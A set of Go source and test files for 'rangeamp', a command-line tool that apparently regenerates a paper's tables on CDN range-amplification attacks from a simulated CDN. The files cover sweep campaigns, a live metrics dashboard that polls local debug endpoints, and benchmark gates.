	low := Snapshot{Benchmarks: []Benchmark{
		{Name: "BenchmarkExpAll/parallel=1", Procs: 1, NsPerOp: 1000},
		{Name: "BenchmarkExpAll/parallel=8", Procs: 1, NsPerOp: 2000},
	}}
	sb.Reset()
	if err := checkRatio(&sb, low, "BenchmarkExpAll/parallel=8,BenchmarkExpAll/parallel=1,0.67"); err != nil {
		t.Errorf("low-procs run should skip, got %v", err)
	}
	if !strings.Contains(sb.String(), "skipped") {
		t.Errorf("skip note missing: %q", sb.String())
	}

	// Malformed specs and missing benchmarks are hard errors.
	for _, spec := range []string{"a,b", "a,b,notanumber", "BenchmarkMissing,BenchmarkExpAll/parallel=1,0.5"} {
		if err := checkRatio(&sb, snap, spec); err == nil {
			t.Errorf("spec %q accepted", spec)
		}
	}
}

func TestCheckAllocs(t *testing.T) {
	snap := Snapshot{Benchmarks: []Benchmark{
		{Name: "BenchmarkFloodVTime1M", Procs: 8, AllocsPerOp: 8200},
		{Name: "BenchmarkExpAll/parallel=1", Procs: 8, AllocsPerOp: 600_000},
	}}
	var sb strings.Builder
	spec := "BenchmarkFloodVTime1M,100000;BenchmarkExpAll/parallel=1,1000000"
	if err := checkAllocs(&sb, snap, spec); err != nil {
		t.Errorf("passing gates rejected: %v", err)
	}
	if !strings.Contains(sb.String(), "= 8200/op (max 100000)") {
		t.Errorf("gate not reported: %q", sb.String())
	}

	// Over the bound: the gate fails.
	if err := checkAllocs(&sb, snap, "BenchmarkFloodVTime1M,8000"); err == nil {
		t.Error("failing gate accepted")
	}

	// Malformed specs and missing benchmarks are hard errors.
	for _, bad := range []string{"justaname", "a,notanumber", "a,-5", "BenchmarkMissing,100"} {
		if err := checkAllocs(&sb, snap, bad); err == nil {
			t.Errorf("spec %q accepted", bad)
		}
	}
}

func TestPct(t *testing.T) {
	cases := []struct {
		old, cur float64
		want     string
	}{
		{1000, 750, "-25%"},
		{100, 200, "+100%"},
		{100, 100.5, "~"},
		{0, 50, "~"},
		{50, 0, "~"},
	}
	for _, tc := range cases {
		if got := pct(tc.old, tc.cur); got != tc.want {
			t.Errorf("pct(%v, %v) = %q, want %q", tc.old, tc.cur, got, tc.want)
		}
	}
}
