package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"strings"

	"repro/internal/campaign"
	"repro/internal/obs"
)

// runCampaign is the "rangeamp campaign" subcommand: declarative
// config-matrix sweeps with persisted, resumable results.
//
//	rangeamp campaign -spec spec.json -out dir/             # run a sweep
//	rangeamp campaign -spec spec.json -out dir/ -resume     # continue one
//	rangeamp campaign -spec spec.json -cells                # print the cell list
//	rangeamp campaign -spec spec.json -out new/ -diff old/  # run, then compare
//	rangeamp campaign -out new/ -diff old/                  # compare only
func runCampaign(ctx context.Context, args []string, w io.Writer) error {
	fs := flag.NewFlagSet("rangeamp campaign", flag.ContinueOnError)
	specPath := fs.String("spec", "", "campaign spec JSON file (omit with -diff to compare two existing directories)")
	outDir := fs.String("out", "", "campaign directory to write (or, with -diff and no -spec, the new side of the comparison)")
	resume := fs.Bool("resume", false, "continue an interrupted campaign: skip cells whose result file already exists")
	parallel := fs.Int("parallel", 1, "max concurrent cells")
	diffDir := fs.String("diff", "", "older campaign directory to compare against after the run")
	tolerance := fs.Float64("tolerance", 0, "relative tolerance for -diff comparisons (0 = exact; the simulation is deterministic)")
	cellsOnly := fs.Bool("cells", false, "print the spec's expanded cell list (hash and label) and exit without running")
	progress := fs.String("progress", "", "stream cell lifecycle events as JSON Lines to this file (\"-\" = stdout)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if fs.NArg() > 0 {
		return fmt.Errorf("campaign: unexpected argument %q", fs.Arg(0))
	}
	if *specPath == "" && *diffDir == "" {
		return fmt.Errorf("campaign: -spec is required (or -diff with -out to compare existing directories)")
	}

	if *specPath != "" {
		spec, err := loadSpec(*specPath)
		if err != nil {
			return err
		}
		if *cellsOnly {
			cells, err := spec.Cells()
			if err != nil {
				return err
			}
			for _, c := range cells {
				fmt.Fprintf(w, "%s  %s\n", c.Hash, c.Config.Label())
			}
			_, err = fmt.Fprintf(w, "%d cells\n", len(cells))
			return err
		}
		if *outDir == "" {
			return fmt.Errorf("campaign: -out is required")
		}
		var events *obs.EventLog
		if *progress != "" {
			sink := io.Writer(os.Stdout)
			if *progress != "-" {
				f, err := os.Create(*progress)
				if err != nil {
					return fmt.Errorf("campaign: -progress: %w", err)
				}
				defer f.Close()
				sink = f
			}
			events = obs.NewEventLog(sink, nil)
		}
		sum, err := campaign.Run(ctx, *spec, campaign.RunOptions{
			Dir:      *outDir,
			Parallel: *parallel,
			Resume:   *resume,
			Progress: events,
		})
		if err != nil {
			return err
		}
		if _, err := fmt.Fprintf(w, "campaign %s: %d cells — %d executed, %d skipped (%s)\n",
			spec.Name, sum.Total, sum.Executed, sum.Skipped, sum.Dir); err != nil {
			return err
		}
	}

	if *diffDir != "" {
		if *outDir == "" {
			return fmt.Errorf("campaign: -diff needs -out as the new side")
		}
		d, err := campaign.Diff(*diffDir, *outDir, *tolerance)
		if err != nil {
			return err
		}
		if err := d.Render(w); err != nil {
			return err
		}
		if !d.Clean() {
			return fmt.Errorf("campaign: %d missing, %d changed vs %s",
				len(d.Missing), len(d.Changed), *diffDir)
		}
	}
	return nil
}

// loadSpec reads and strictly decodes a campaign spec: an unknown
// field is a typo'd axis, and silently ignoring it would run the wrong
// sweep.
func loadSpec(path string) (*campaign.Spec, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	dec := json.NewDecoder(f)
	dec.DisallowUnknownFields()
	var spec campaign.Spec
	if err := dec.Decode(&spec); err != nil {
		return nil, fmt.Errorf("campaign: parsing %s: %w", path, err)
	}
	if spec.Name == "" {
		spec.Name = strings.TrimSuffix(strings.TrimSuffix(path[strings.LastIndexByte(path, '/')+1:], ".json"), ".spec")
	}
	return &spec, nil
}
