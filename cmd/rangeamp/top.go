package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"sort"
	"strings"
	"time"

	"repro/internal/measure"
	"repro/internal/obs"
)

// runTop is the "rangeamp top" subcommand: a refresh-in-place terminal
// dashboard over one or more daemons' /debug/live endpoints.
//
//	rangeamp top -targets http://127.0.0.1:6061,http://127.0.0.1:6060
//	rangeamp top -targets http://127.0.0.1:6061 -once      # one snapshot, no clearing
//	rangeamp top -targets http://127.0.0.1:6061 -json      # JSON lines, scripts
//	rangeamp top -frames 10                                # exit after 10 refreshes
func runTop(ctx context.Context, args []string, w io.Writer) error {
	fs := flag.NewFlagSet("rangeamp top", flag.ContinueOnError)
	targets := fs.String("targets", "http://127.0.0.1:6060", "comma list of daemon debug endpoints (base URL, /debug/live appended when missing)")
	interval := fs.Duration("interval", time.Second, "refresh interval")
	once := fs.Bool("once", false, "poll once, print one snapshot, exit (implies no screen clearing)")
	jsonOut := fs.Bool("json", false, "emit each polled frame as one JSON line instead of the dashboard")
	frames := fs.Int("frames", 0, "exit after this many refreshes (0 = run until interrupted)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if fs.NArg() > 0 {
		return fmt.Errorf("top: unexpected argument %q", fs.Arg(0))
	}
	var urls []string
	for _, t := range strings.Split(*targets, ",") {
		t = strings.TrimSpace(t)
		if t == "" {
			continue
		}
		if !strings.Contains(t, "://") {
			t = "http://" + t
		}
		if !strings.Contains(t, "/debug/live") {
			t = strings.TrimRight(t, "/") + "/debug/live"
		}
		urls = append(urls, t)
	}
	if len(urls) == 0 {
		return fmt.Errorf("top: no targets")
	}

	client := &http.Client{Timeout: 5 * time.Second}
	refreshes := 0
	for {
		if err := topRefresh(ctx, client, urls, *interval, *once, *jsonOut, w); err != nil {
			return err
		}
		refreshes++
		if *once || (*frames > 0 && refreshes >= *frames) {
			return nil
		}
		select {
		case <-ctx.Done():
			return nil
		case <-time.After(*interval):
		}
	}
}

// topRefresh polls every target once and renders one dashboard (or one
// JSON line per target). Unreachable targets render as an error row —
// the dashboard outlives daemon restarts.
func topRefresh(ctx context.Context, client *http.Client, urls []string, interval time.Duration, once, jsonOut bool, w io.Writer) error {
	type polled struct {
		url   string
		frame *obs.Frame
		err   error
	}
	views := make([]polled, len(urls))
	for i, u := range urls {
		f, err := pollLive(ctx, client, u)
		views[i] = polled{url: u, frame: f, err: err}
	}

	if jsonOut {
		enc := json.NewEncoder(w)
		for _, v := range views {
			if v.err != nil {
				fmt.Fprintf(w, "{\"target\":%q,\"error\":%q}\n", v.url, v.err.Error())
				continue
			}
			if err := enc.Encode(struct {
				Target string `json:"target"`
				*obs.Frame
			}{v.url, v.frame}); err != nil {
				return err
			}
		}
		return nil
	}

	var b strings.Builder
	if !once {
		b.WriteString("\x1b[H\x1b[2J") // cursor home + clear: refresh in place
	}
	fmt.Fprintf(&b, "rangeamp top — %d target(s), refresh %s\n", len(urls), interval)
	for _, v := range views {
		b.WriteByte('\n')
		if v.err != nil {
			fmt.Fprintf(&b, "%s\n  unreachable: %v\n", v.url, v.err)
			continue
		}
		renderFrame(&b, v.url, v.frame)
	}
	_, err := io.WriteString(w, b.String())
	return err
}

// pollLive fetches one target's latest frame (the one-shot JSON view).
func pollLive(ctx context.Context, client *http.Client, url string) (*obs.Frame, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return nil, err
	}
	resp, err := client.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("status %s", resp.Status)
	}
	var f obs.Frame
	if err := json.NewDecoder(resp.Body).Decode(&f); err != nil {
		return nil, err
	}
	return &f, nil
}

// renderFrame formats one target's frame as the dashboard block.
func renderFrame(b *strings.Builder, url string, f *obs.Frame) {
	fmt.Fprintf(b, "%s    seq %d  window %.1fs\n", url, f.Seq, float64(f.IntervalMS)/1000)
	if f.Seq == 0 {
		fmt.Fprintf(b, "  no completed window yet\n")
		return
	}
	fmt.Fprintf(b, "  amp      factor %.1f  cum %.1f   victim %s %s/s   attacker %s %s/s\n",
		f.Amp.Factor, f.Amp.CumFactor,
		f.Amp.VictimSegment, measure.FormatBytes(f.Amp.VictimBps),
		f.Amp.AttackerSegment, measure.FormatBytes(f.Amp.AttackerBps))
	for _, s := range f.Segments {
		fmt.Fprintf(b, "  segment  %-12s up %s/s  down %s/s  conns %.1f/s  live %d\n",
			s.Segment, measure.FormatBytes(s.UpBps), measure.FormatBytes(s.DownBps), s.ConnsPerS, s.Live)
	}
	for _, v := range f.Vendors {
		fmt.Fprintf(b, "  vendor   %-12s req %.1f/s  upstream %.1f/s%s\n",
			v.Vendor, v.ReqPerS, v.UpstreamPerS, rejectSummary(v.RejectPerS))
	}
	fmt.Fprintf(b, "  cache    hit %.1f%%  lifetime %.1f%%  hits %.1f/s  misses %.1f/s  collapsed %.1f/s\n",
		f.Cache.HitRatio*100, f.Cache.LifetimeRatio*100,
		f.Cache.HitsPerS, f.Cache.MissesPerS, f.Cache.CollapsedPerS)
	fmt.Fprintf(b, "  pool     reuse %.1f%%  reuses %.1f/s  dials %.1f/s  idle %d\n",
		f.Pool.ReuseRatio*100, f.Pool.ReusesPerS, f.Pool.DialsPerS, f.Pool.Idle)
	fmt.Fprintf(b, "  detect   inspected %.1f/s  obr %.1f/s  sbr %.1f/s\n",
		f.Detect.InspectedPerS, f.Detect.FlaggedOBRPerS, f.Detect.FlaggedSBRPerS)
	fmt.Fprintf(b, "  latency  p50 %s  p95 %s  p99 %s  (n=%d)\n",
		fmtUS(f.Latency.P50us), fmtUS(f.Latency.P95us), fmtUS(f.Latency.P99us), f.Latency.Count)
}

// rejectSummary renders the per-reason rejection rates in a stable
// order (map iteration would jitter the dashboard).
func rejectSummary(m map[string]float64) string {
	if len(m) == 0 {
		return ""
	}
	reasons := make([]string, 0, len(m))
	for r := range m {
		reasons = append(reasons, r)
	}
	sort.Strings(reasons)
	var b strings.Builder
	b.WriteString("  reject")
	for _, r := range reasons {
		fmt.Fprintf(&b, " %s %.1f/s", r, m[r])
	}
	return b.String()
}

// fmtUS renders a microsecond quantile with a readable unit.
func fmtUS(us int64) string {
	switch {
	case us >= 1_000_000:
		return fmt.Sprintf("%.2fs", float64(us)/1e6)
	case us >= 1_000:
		return fmt.Sprintf("%.1fms", float64(us)/1e3)
	default:
		return fmt.Sprintf("%dus", us)
	}
}
