package main

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"repro/internal/obs"
)

// cannedFrame is a fully populated live frame, the fixture behind the
// top dashboard golden.
func cannedFrame() obs.Frame {
	return obs.Frame{
		Seq:        42,
		Time:       time.Date(2024, 6, 1, 12, 0, 0, 0, time.UTC),
		IntervalMS: 1000,
		Segments: []obs.SegmentRate{
			{Segment: "cdn-origin", UpBps: 1200, DownBps: 43_200_000, ConnsPerS: 0, Live: 4},
			{Segment: "client-cdn", UpBps: 2000, DownBps: 1000, ConnsPerS: 4, Live: 4},
		},
		Vendors: []obs.VendorRate{
			{Vendor: "akamai", ReqPerS: 120, UpstreamPerS: 118,
				RejectPerS: map[string]float64{"detector": 2, "limits": 0.5}},
		},
		Amp: obs.AmpStats{
			VictimSegment: "cdn-origin", AttackerSegment: "client-cdn",
			VictimBps: 43_200_000, AttackerBps: 1000,
			Factor: 43187.2, CumFactor: 43187.0,
		},
		Cache: obs.CacheStats{HitsPerS: 0, MissesPerS: 120, HitRatio: 0,
			LifetimeRatio: 0.017, CollapsedPerS: 1.5},
		Pool:    obs.PoolStats{ReusesPerS: 116, DialsPerS: 2, ReuseRatio: 116.0 / 118, Idle: 4},
		Detect:  obs.DetectStats{InspectedPerS: 120, FlaggedOBRPerS: 0, FlaggedSBRPerS: 2},
		Latency: obs.LatencyStats{Count: 120, P50us: 900, P95us: 3100, P99us: 1_200_000},
	}
}

func liveServer(t *testing.T, f obs.Frame) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/debug/live" {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(f) //nolint:errcheck
	}))
	t.Cleanup(srv.Close)
	return srv
}

// TestTopOnceGolden pins the -once dashboard layout against a canned
// frame. The server's ephemeral port is normalized out before the
// comparison.
func TestTopOnceGolden(t *testing.T) {
	srv := liveServer(t, cannedFrame())

	var out bytes.Buffer
	if err := run(context.Background(), []string{"top", "-targets", srv.URL, "-once"}, &out); err != nil {
		t.Fatal(err)
	}
	got := strings.ReplaceAll(out.String(), srv.URL, "http://TARGET")

	goldenPath := filepath.Join("testdata", "top_once.golden")
	if os.Getenv("UPDATE_GOLDEN") != "" {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(goldenPath, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(goldenPath)
	if err != nil {
		t.Fatalf("%v (run with UPDATE_GOLDEN=1 to regenerate)", err)
	}
	if got != string(want) {
		t.Errorf("dashboard drifted from golden:\n--- got ---\n%s--- want ---\n%s", got, want)
	}
}

func TestTopJSONMode(t *testing.T) {
	srv := liveServer(t, cannedFrame())

	var out bytes.Buffer
	if err := run(context.Background(), []string{"top", "-targets", srv.URL, "-once", "-json"}, &out); err != nil {
		t.Fatal(err)
	}
	var line struct {
		Target string `json:"target"`
		obs.Frame
	}
	if err := json.Unmarshal(out.Bytes(), &line); err != nil {
		t.Fatalf("bad -json output %q: %v", out.String(), err)
	}
	if line.Target != srv.URL+"/debug/live" || line.Seq != 42 {
		t.Errorf("target/seq = %q/%d", line.Target, line.Seq)
	}
	if line.Amp.Factor != 43187.2 {
		t.Errorf("factor = %v", line.Amp.Factor)
	}
}

func TestTopFramesBound(t *testing.T) {
	srv := liveServer(t, cannedFrame())

	// Two refreshes then exit; interactive mode prefixes each refresh
	// with the clear-screen sequence.
	var out bytes.Buffer
	err := run(context.Background(),
		[]string{"top", "-targets", srv.URL, "-interval", "1ms", "-frames", "2"}, &out)
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Count(out.String(), "\x1b[H\x1b[2J"); got != 2 {
		t.Errorf("%d clear sequences, want 2", got)
	}
	if got := strings.Count(out.String(), "seq 42"); got != 2 {
		t.Errorf("%d frames rendered, want 2", got)
	}
}

func TestTopUnreachableTarget(t *testing.T) {
	var out bytes.Buffer
	if err := run(context.Background(),
		[]string{"top", "-targets", "http://127.0.0.1:1", "-once"}, &out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "unreachable") {
		t.Errorf("no unreachable row: %q", out.String())
	}
}
