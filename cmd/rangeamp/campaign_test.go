package main

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// writeSpec drops a spec file for the subcommand tests: two vendors at
// 1 MB crossed with keep-alive on/off — four fast cells.
func writeSpec(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "smoke.json")
	spec := `{
  "name": "cli-smoke",
  "experiments": ["sbr"],
  "axes": {
    "vendors": ["cloudflare", "fastly"],
    "sizes_mb": [1],
    "keep_alive": [false, true]
  }
}
`
	if err := os.WriteFile(path, []byte(spec), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestCampaignRunAndResume(t *testing.T) {
	spec := writeSpec(t)
	dir := filepath.Join(t.TempDir(), "out")

	var b strings.Builder
	if err := run(context.Background(), []string{"campaign", "-spec", spec, "-out", dir}, &b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "4 cells — 4 executed, 0 skipped") {
		t.Fatalf("first run summary: %q", b.String())
	}

	// Resume over a finished campaign executes nothing.
	b.Reset()
	if err := run(context.Background(), []string{"campaign", "-spec", spec, "-out", dir, "-resume"}, &b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "4 cells — 0 executed, 4 skipped") {
		t.Fatalf("resume summary: %q", b.String())
	}

	// Without -resume the used directory is refused.
	if err := run(context.Background(), []string{"campaign", "-spec", spec, "-out", dir}, &b); err == nil {
		t.Fatal("re-run into used directory without -resume succeeded")
	}
}

func TestCampaignDiffCLI(t *testing.T) {
	spec := writeSpec(t)
	oldDir := filepath.Join(t.TempDir(), "old")
	newDir := filepath.Join(t.TempDir(), "new")

	var b strings.Builder
	for _, dir := range []string{oldDir, newDir} {
		if err := run(context.Background(), []string{"campaign", "-spec", spec, "-out", dir}, &b); err != nil {
			t.Fatal(err)
		}
	}

	// Diff-only mode: no -spec, just the two directories.
	b.Reset()
	if err := run(context.Background(), []string{"campaign", "-out", newDir, "-diff", oldDir}, &b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "no regressions") {
		t.Fatalf("diff output: %q", b.String())
	}

	// A missing cell file is a regression: nonzero exit.
	entries, err := os.ReadDir(newDir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if strings.HasPrefix(e.Name(), "cell-") {
			if err := os.Remove(filepath.Join(newDir, e.Name())); err != nil {
				t.Fatal(err)
			}
			break
		}
	}
	if err := run(context.Background(), []string{"campaign", "-out", newDir, "-diff", oldDir}, &b); err == nil {
		t.Fatal("diff with a missing cell reported success")
	}
}

func TestCampaignCellsListing(t *testing.T) {
	spec := writeSpec(t)
	var b strings.Builder
	if err := run(context.Background(), []string{"campaign", "-spec", spec, "-cells"}, &b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.Contains(out, "4 cells") || !strings.Contains(out, "sbr cloudflare 1MB") {
		t.Fatalf("cell listing: %q", out)
	}
}

func TestCampaignRejectsUnknownSpecField(t *testing.T) {
	path := filepath.Join(t.TempDir(), "bad.json")
	if err := os.WriteFile(path, []byte(`{"experiments": ["sbr"], "axis": {}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	if err := run(context.Background(), []string{"campaign", "-spec", path, "-cells"}, &b); err == nil {
		t.Fatal("spec with unknown field accepted")
	}
}
