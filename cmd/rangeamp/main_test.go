package main

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"repro/internal/trace"
)

func TestParseSizes(t *testing.T) {
	tests := []struct {
		in      string
		want    []int
		wantErr bool
	}{
		{"1,10,25", []int{1, 10, 25}, false},
		{" 2 , 4 ", []int{2, 4}, false},
		{"1-4", []int{1, 2, 3, 4}, false},
		{"7-7", []int{7}, false},
		{"5-2", nil, true},
		{"0", nil, true},
		{"a,b", nil, true},
		{"1-x", nil, true},
	}
	for _, tt := range tests {
		got, err := parseSizes(tt.in)
		if (err != nil) != tt.wantErr {
			t.Errorf("parseSizes(%q) err = %v", tt.in, err)
			continue
		}
		if tt.wantErr {
			continue
		}
		if len(got) != len(tt.want) {
			t.Errorf("parseSizes(%q) = %v, want %v", tt.in, got, tt.want)
			continue
		}
		for i := range got {
			if got[i] != tt.want[i] {
				t.Errorf("parseSizes(%q)[%d] = %d, want %d", tt.in, i, got[i], tt.want[i])
			}
		}
	}
}

func TestRunTable2(t *testing.T) {
	var b strings.Builder
	if err := run(context.Background(), []string{"-exp", "table2"}, &b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{"Table II", "Cloudflare", "Unchanged", "StackPath"} {
		if !strings.Contains(out, want) {
			t.Errorf("output missing %q", want)
		}
	}
}

func TestRunSBRSmall(t *testing.T) {
	var b strings.Builder
	if err := run(context.Background(), []string{"-exp", "sbr", "-sizes", "1"}, &b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{"Table IV", "Fig 6a", "Fig 6b", "Fig 6c", "Akamai"} {
		if !strings.Contains(out, want) {
			t.Errorf("output missing %q", want)
		}
	}
}

func TestRunCSVMode(t *testing.T) {
	var b strings.Builder
	if err := run(context.Background(), []string{"-exp", "table3", "-csv"}, &b); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(b.String(), "CDN,Ranges Sent,") {
		t.Errorf("csv output: %q", b.String()[:60])
	}
}

func TestRunMultipleExperiments(t *testing.T) {
	var b strings.Builder
	if err := run(context.Background(), []string{"-exp", "table2,table3", "-sizes", "1"}, &b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.Contains(out, "Table II") || !strings.Contains(out, "Table III") {
		t.Error("missing one of the experiments")
	}
}

func TestRunUnknownExperiment(t *testing.T) {
	var b strings.Builder
	if err := run(context.Background(), []string{"-exp", "nonsense"}, &b); err == nil {
		t.Error("unknown experiment accepted")
	}
}

func TestRunUnknownExperimentInList(t *testing.T) {
	// An unknown name anywhere in a comma list fails the run and is
	// named in the error, so a typo'd sweep dies loudly instead of
	// quietly running a subset.
	var b strings.Builder
	err := run(context.Background(), []string{"-exp", "table3,nonsense"}, &b)
	if err == nil {
		t.Fatal("unknown experiment inside comma list accepted")
	}
	if !strings.Contains(err.Error(), `"nonsense"`) {
		t.Errorf("error does not name the bad entry: %v", err)
	}
}

func TestRunBadSizes(t *testing.T) {
	var b strings.Builder
	if err := run(context.Background(), []string{"-exp", "sbr", "-sizes", "zero"}, &b); err == nil {
		t.Error("bad sizes accepted")
	}
}

func TestRunBandwidth(t *testing.T) {
	var b strings.Builder
	if err := run(context.Background(), []string{"-exp", "bandwidth"}, &b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "Fig 7a") || !strings.Contains(b.String(), "Fig 7b") {
		t.Error("missing Fig 7 panels")
	}
}

func TestRunMitigation(t *testing.T) {
	var b strings.Builder
	if err := run(context.Background(), []string{"-exp", "mitigation"}, &b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "Laziness") {
		t.Error("missing mitigation rows")
	}
}

func TestRunCorpus(t *testing.T) {
	var b strings.Builder
	if err := run(context.Background(), []string{"-exp", "corpus"}, &b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.Contains(out, "Corpus audit") {
		t.Error("missing corpus table")
	}
	if strings.Contains(out, "VIOLATION") {
		t.Errorf("corpus violations reported:\n%s", out)
	}
}

func TestRunOutDirectory(t *testing.T) {
	dir := t.TempDir()
	var b strings.Builder
	if err := run(context.Background(), []string{"-exp", "table2,table3", "-out", dir}, &b); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"table2.csv", "table3.csv"} {
		data, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if !strings.HasPrefix(string(data), "CDN,") {
			t.Errorf("%s: unexpected content %q", name, data[:20])
		}
	}
}

// A multi-table experiment must write one file per artifact instead of
// overwriting <exp>.csv for each table in turn.
func TestRunOutDirectoryMultiTable(t *testing.T) {
	dir := t.TempDir()
	var b strings.Builder
	if err := run(context.Background(), []string{"-exp", "sbr", "-sizes", "1", "-out", dir}, &b); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"sbr-table4.csv", "sbr-fig6a.csv", "sbr-fig6b.csv", "sbr-fig6c.csv"} {
		if _, err := os.Stat(filepath.Join(dir, name)); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "sbr.csv")); err == nil {
		t.Error("ambiguous sbr.csv written for a multi-table experiment")
	}
}

func TestRunFormatJSON(t *testing.T) {
	var b strings.Builder
	if err := run(context.Background(), []string{"-exp", "table2,table3", "-format", "json"}, &b); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimRight(b.String(), "\n"), "\n")
	if len(lines) != 2 {
		t.Fatalf("want one JSON line per experiment, got %d", len(lines))
	}
	for i, name := range []string{"table2", "table3"} {
		var decoded struct {
			Experiment string `json:"experiment"`
			Tables     []struct {
				Columns []string `json:"columns"`
			} `json:"tables"`
			Stats []struct {
				Name string `json:"name"`
			} `json:"stats"`
		}
		if err := json.Unmarshal([]byte(lines[i]), &decoded); err != nil {
			t.Fatalf("line %d invalid JSON: %v", i, err)
		}
		if decoded.Experiment != name {
			t.Errorf("line %d experiment = %q, want %q", i, decoded.Experiment, name)
		}
		if len(decoded.Tables) == 0 || len(decoded.Tables[0].Columns) == 0 {
			t.Errorf("%s: no table columns in JSON", name)
		}
		if len(decoded.Stats) == 0 {
			t.Errorf("%s: no stats delta in JSON", name)
		}
	}
}

func TestRunFormatCSVEquivalentToCSVFlag(t *testing.T) {
	var viaFlag, viaFormat strings.Builder
	if err := run(context.Background(), []string{"-exp", "table3", "-csv"}, &viaFlag); err != nil {
		t.Fatal(err)
	}
	if err := run(context.Background(), []string{"-exp", "table3", "-format", "csv"}, &viaFormat); err != nil {
		t.Fatal(err)
	}
	if viaFlag.String() != viaFormat.String() {
		t.Error("-csv and -format csv outputs differ")
	}
}

func TestRunBadFormat(t *testing.T) {
	var b strings.Builder
	if err := run(context.Background(), []string{"-exp", "table3", "-format", "yaml"}, &b); err == nil {
		t.Error("bad -format accepted")
	}
}

func TestRunMetricsFlag(t *testing.T) {
	var b strings.Builder
	if err := run(context.Background(), []string{"-exp", "table3", "-metrics"}, &b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.Contains(out, "metrics delta — table3") {
		t.Error("missing metrics delta header")
	}
	// A table3 run drives every vendor's edge; its delta must show the
	// per-vendor request counters.
	if !strings.Contains(out, `cdn_requests_total{vendor=`) {
		t.Errorf("metrics delta missing edge counters:\n%s", out)
	}
}

func TestRunParallel(t *testing.T) {
	var serial, par strings.Builder
	if err := run(context.Background(), []string{"-exp", "table1,table3,obr"}, &serial); err != nil {
		t.Fatal(err)
	}
	if err := run(context.Background(), []string{"-exp", "table1,table3,obr", "-parallel", "8"}, &par); err != nil {
		t.Fatal(err)
	}
	if serial.String() != par.String() {
		t.Error("parallel output differs from serial output")
	}
}

func TestRunBadParallel(t *testing.T) {
	var b strings.Builder
	if err := run(context.Background(), []string{"-exp", "table3", "-parallel", "0"}, &b); err == nil {
		t.Error("bad -parallel accepted")
	}
}

func TestRunTraceOut(t *testing.T) {
	defer trace.Default.Configure(trace.Config{}) // don't leak tracing into later tests
	dir := t.TempDir()
	jsonPath := filepath.Join(dir, "traces.json")
	var b strings.Builder
	if err := run(context.Background(), []string{"-exp", "sbr", "-sizes", "1", "-trace-out", jsonPath}, &b); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(jsonPath)
	if err != nil {
		t.Fatal(err)
	}
	var chrome struct {
		TraceEvents []struct {
			Name string `json:"name"`
			Ph   string `json:"ph"`
		} `json:"traceEvents"`
	}
	if err := json.Unmarshal(data, &chrome); err != nil {
		t.Fatalf("trace-out is not Chrome trace JSON: %v", err)
	}
	if len(chrome.TraceEvents) == 0 {
		t.Fatal("trace export carries no events")
	}

	textPath := filepath.Join(dir, "traces.txt")
	b.Reset()
	if err := run(context.Background(), []string{"-exp", "sbr", "-sizes", "1", "-trace-out", textPath}, &b); err != nil {
		t.Fatal(err)
	}
	text, err := os.ReadFile(textPath)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(text), "attacker") {
		t.Errorf("waterfall export missing attacker spans:\n%.400s", text)
	}
}

func TestRunList(t *testing.T) {
	var b strings.Builder
	if err := run(context.Background(), []string{"-list"}, &b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{"table1", "sbr", "bandwidth-all", "nodes"} {
		if !strings.Contains(out, want) {
			t.Errorf("-list output missing %q", want)
		}
	}
}
