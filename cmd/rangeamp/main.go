// Command rangeamp regenerates the paper's evaluation tables and
// figures from the simulated CDN substrate. Experiments come from the
// internal/exp registry; -exp names are registry names (plus the
// "fig6" alias for "sbr").
//
// Usage:
//
//	rangeamp -exp all                 # every experiment, paper order
//	rangeamp -exp all -parallel 8     # same, 8 concurrent probe cells
